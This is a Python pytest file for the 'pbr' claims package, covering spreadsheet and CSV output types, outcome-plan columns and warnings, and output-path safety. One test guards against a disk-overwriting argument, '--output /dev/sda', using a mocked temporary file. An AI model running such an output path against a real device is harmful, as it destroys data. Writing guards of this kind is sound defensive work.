    with pytest.raises(OutputError, match="is inside the input"):
        check_distinct({"the input": str(tables)}, {"--output": str(link)})
    new = tmp_path / "new.csv"
    new.symlink_to(tables / "decisions.csv")  # a link to a file not there yet: inside too
    with pytest.raises(OutputError, match="is inside the input"):
        check_distinct({"the input": str(tables)}, {"--output": str(new)})


def test_a_workbook_of_decisions_holds_numbers_dates_and_flags(tmp_path: Path) -> None:
    """Every amount was text in the workbook: a spreadsheet's SUM of `payable` gave 0."""
    import csv as csv_module
    from datetime import date as date_type
    from decimal import Decimal as Dec

    from openpyxl import load_workbook

    from pbr.cli import main

    families = str(Path(__file__).resolve().parents[1] / "examples" / "families.jsonl")
    for suffix in (".xlsx", ".csv"):
        out = str(tmp_path / f"d{suffix}")
        assert main(["evaluate", families, "--as-of", "2015-03-31", "--output", out]) == 0
    sheet = load_workbook(tmp_path / "d.xlsx")["results"]
    rows = list(sheet.iter_rows(values_only=True))
    head = list(rows[0])
    cells = {name: [r[head.index(name)] for r in rows[1:]] for name in head}
    with open(tmp_path / "d.csv", encoding="utf-8", newline="") as handle:
        text = list(csv_module.DictReader(handle))
    for name in ("amount", "payable", "rate", "attachment_fee", "paid_to_date"):
        assert all(isinstance(v, int | float) for v in cells[name]), name
        assert sum(Dec(str(v)) for v in cells[name]) == sum(Dec(r[name]) for r in text), name
    assert sheet.cell(row=2, column=head.index("amount") + 1).number_format == '"£"#,##0.00'
    assert all(isinstance(v, date_type) for v in cells["as_of"])  # a datetime, to openpyxl
    assert {type(v) for v in cells["eligible"]} == {bool}
    assert [str(v) for v in cells["family_id"]] == [r["family_id"] for r in text]


def test_a_frame_with_no_rejection_or_council_has_text_columns_not_floats() -> None:
    """`source`, `rejection` (and a council no family names) were float64 columns of NaN."""
    from datetime import date

    import pbr

    examples = Path(__file__).resolve().parents[1] / "examples" / "mixed-programmes.jsonl"
    families = [f for f in pbr.read_records(examples) if isinstance(f, pbr.Family)][:3]
    frame = pbr.to_pandas(pbr.evaluate_many(families, as_of=date(2019, 3, 31), workers=1))
    for column in ("local_authority", "source", "rejection"):
        assert frame[column].dtype == object, column
        assert frame[column].isna().all()


def test_a_block_device_is_refused_not_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--output /dev/sda`` wrote the decisions onto the disk, as onto ``/dev/null``."""
    from pbr.output import OutputError

    disk = tmp_path / "sda"  # a regular file that stat says is a disk: no real device is touched
    disk.write_text("the disk\n")
    real_stat = os.stat

    def as_a_disk(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        found = real_stat(path, *args, **kwargs)
        if Path(path) != disk:
            return found
        fields = list(found)
        fields[0] = stat.S_IFBLK | 0o660
        return os.stat_result(fields)

    monkeypatch.setattr(os, "stat", as_a_disk)
    refused = pytest.raises(OutputError, match=r"will not write over .*sda: it is a block device")
    with refused, atomic_writer(disk) as handle:
        handle.write("decisions\n")
    monkeypatch.undo()
    assert disk.read_text() == "the disk\n"


def test_to_pandas_without_pandas_names_the_pandas_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    """It said to install the forecast extra; the tutorial (and pyproject) have ``pandas``."""
    import sys

    import pbr

    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(ImportError, match=r'pip install "pbr-claims\[pandas\]"'):
        pbr.to_pandas([])


def _phase_two_decisions(plan: bool) -> list[pbr.Decision]:
    """The examples' phase-two families, judged against a plan of their own, or pbr's example."""
    from pbr.plans import example_plan

    given = example_plan("tf-phase-2").model_copy(update={"id": "council-own", "version": "7"})
    found = pbr.evaluate_many(
        pbr.read_records(Path(__file__).parents[1] / "examples" / "mixed-programmes.jsonl"),
        as_of=date(2024, 3, 31),
        plans={"tf-phase-2": given} if plan else None,
    )
    return [d for d in found if isinstance(d, pbr.Decision)]


@pytest.mark.parametrize("plan", [True, False])
def test_the_csv_and_the_table_name_the_outcome_plan(plan: bool, tmp_path: Path) -> None:
    from pbr.output import table_cells

    decisions = _phase_two_decisions(plan)
    label = "council-own/7" if plan else "pbr-example-tfop/1.0"
    by_programme = {d.programme: d for d in decisions}
    assert "outcome_plan" in RESULT_COLUMNS
    for d in decisions:
        expected = {"tf-phase-1": ""}.get(d.programme, d.outcome_plan)
        text = io.StringIO(decision_text(d, "csv-file"))
        for row in csv.DictReader(text, fieldnames=RESULT_COLUMNS):
            assert row["outcome_plan"] == expected
    assert {r["outcome_plan"] for r in result_rows(by_programme["tf-phase-2"])} == {label}
    assert {r["outcome_plan"] for r in result_rows(by_programme["tf-phase-1"])} == {""}
    cells = table_cells(by_programme["tf-phase-2"])
    assert cells[-2] == (label if plan else f"{label} (example)")
    assert table_cells(by_programme["tf-phase-1"])[-2] == ""
    path = tmp_path / "d.csv"
    write_decisions(decisions, path, "csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert {r["outcome_plan"] for r in rows if r["programme"] == "tf-phase-2"} == {label}


def test_the_table_shows_the_outcome_plan_column_only_when_a_decision_has_one(
    capsys: pytest.CaptureFixture[str],
) -> None:
    mixed = Path(__file__).parents[1] / "examples" / "mixed-programmes.jsonl"
    assert main(["evaluate", str(mixed), "--as-of", "2024-03-31", "--workers", "1"]) == 0
    head = capsys.readouterr().out.splitlines()[0]
    assert "outcome plan" in head
    families = Path(__file__).parents[1] / "examples" / "families.jsonl"
    assert main(["evaluate", str(families), "--as-of", "2015-03-31", "--workers", "1"]) == 0
    assert "outcome plan" not in capsys.readouterr().out.splitlines()[0]


def test_a_decision_s_warnings_are_in_every_row_of_the_csv_and_the_frame(tmp_path: Path) -> None:
    """After claims closed, 42 example decisions warned RESULTS_CLAIMS_CLOSED in their JSON
    only: the CSV, the workbook and `to_pandas` showed £61,300.00 payable with no word of it."""
    import pbr
    from pbr.output import result_rows, write_decisions

    root = Path(__file__).resolve().parents[1]
    families = list(pbr.read_records(root / "examples" / "families.jsonl"))
    decisions = [
        pbr.evaluate(f, as_of=date(2015, 7, 1))
        for f in families
        if not isinstance(f, pbr.Rejection)
    ]
    closed = [d for d in decisions if any(w.code == "RESULTS_CLAIMS_CLOSED" for w in d.warnings)]
    assert len(closed) == 42
    for d in decisions:
        codes = " ".join(dict.fromkeys(w.code for w in d.warnings))
        assert {row["warnings"] for row in result_rows(d)} == {codes}
    frame = pbr.to_pandas(decisions)
    assert frame["warnings"].str.contains("RESULTS_CLAIMS_CLOSED").sum() == 3 * 42
    write_decisions(decisions, tmp_path / "d.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "d.csv").read_text(encoding="utf-8"))))
    assert sum("RESULTS_CLAIMS_CLOSED" in row["warnings"] for row in rows) == 3 * 42


def test_the_summary_says_results_payable_after_claims_closed_could_not_be_claimed() -> None:
    root = Path(__file__).resolve().parents[1]
    run = subprocess.run(
        [sys.executable, "-m", "pbr.cli", "evaluate", str(root / "examples" / "families.jsonl"),
         "--as-of", "2015-07-01"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    said = "claims closed on 2015-05-31: these could not be claimed (RESULTS_CLAIMS_CLOSED)"
    assert said in run.stderr + run.stdout
    early = subprocess.run(
        [sys.executable, "-m", "pbr.cli", "evaluate", str(root / "examples" / "families.jsonl"),
         "--as-of", "2015-05-31"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert "claims closed" not in early.stderr + early.stdout


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from([None, *PROGRAMMES]).flatmap(lambda p: families(p, max_events=4)),
        min_size=1,
        max_size=4,
    ),
    as_of_dates(),
)
def test_the_batchs_table_rows_are_the_tables_cells(drawn: list[pbr.Family], as_of: date) -> None:
    """`pbr._rows.table_row` (the batch's) writes `table_cells` as `table_text` does and widens
    the columns to the widest cell seen."""
    from pbr._rows import programme_short_names, table_row
    from pbr.output import table_cells

    widths: list[int] = []
    seen: list[list[str]] = []
    for family in drawn:
        try:
            decision = pbr.evaluate(family, as_of=as_of)
        except pbr.PbrError:
            continue
        cells = table_cells(decision)
        seen.append(cells)
        assert table_row(decision, widths, programme_short_names()) == json.dumps(
            cells, ensure_ascii=False
        )
        assert widths == [max(len(row[i]) for row in seen) for i in range(len(cells))]
